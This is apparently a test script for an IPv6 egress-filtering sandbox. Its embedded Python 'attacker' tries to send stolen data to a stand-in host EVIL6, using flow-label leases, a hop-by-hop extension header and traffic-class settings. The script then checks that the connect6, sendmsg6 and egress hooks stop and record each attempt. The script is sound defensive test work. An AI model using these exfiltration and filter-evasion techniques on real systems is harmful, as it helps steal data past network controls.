#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: sends with IPv6 flow labels, leased with an option and a destination of their own, and with traffic classes
# stopped-by: connect6, sendmsg6, egress
# reason: destination, ipv6_extension
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443 udp/9000

attack_by <<'PYTHON'
from attacker import *

IPV6_FLOWLABEL_MGR, IPV6_FLOWINFO_SEND, IPV6_HOPOPTS = 32, 33, 54
PADDING = bytes([0, 0, 1, 4, 0, 0, 0, 0])
LABEL = int(ROUND.removeprefix("run")) << 8 # a lease outlives its socket

def lease(sock, destination, label, options=b""):
    """struct in6_flowlabel_req: get and create, exclusive; then the options that come with the label."""
    request = socket.inet_pton(socket.AF_INET6, destination) + struct.pack("!I", label)
    request += struct.pack("=BBHHHI", 0, 1, 1, 60, 60, 0)
    sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FLOWLABEL_MGR, request + options)
    sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FLOWINFO_SEND, 1)
    return label

with attempt("label"):
    sock = udp(EVIL6)
    sock.sendto(loot("label"), (EVIL6, 9000, lease(sock, EVIL6, LABEL), 0))
with attempt("label, tcp"):
    sock = tcp(EVIL6)
    sock.connect((EVIL6, 443, lease(sock, EVIL6, LABEL + 1), 0))
    sock.sendall(loot("tcp"))
with attempt("label that brings an extension header along"):
    sock = udp(GOOD6)
    header = struct.pack("=Qii", 16 + len(PADDING), socket.IPPROTO_IPV6, IPV6_HOPOPTS) + PADDING
    sock.sendto(loot("options"), (GOOD6, 9000, lease(sock, GOOD6, LABEL + 2, header), 0))
with attempt("class"):
    sock = udp(EVIL6)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_TCLASS, 0xB8)
    sock.sendto(loot("class"), (EVIL6, 9000))
PYTHON
works stolen:label stolen:tcp 'stolen:options.* extension:0' stolen:class
gate
stopped
recorded connect6 destination
recorded sendmsg6 destination
recorded egress ipv6_extension
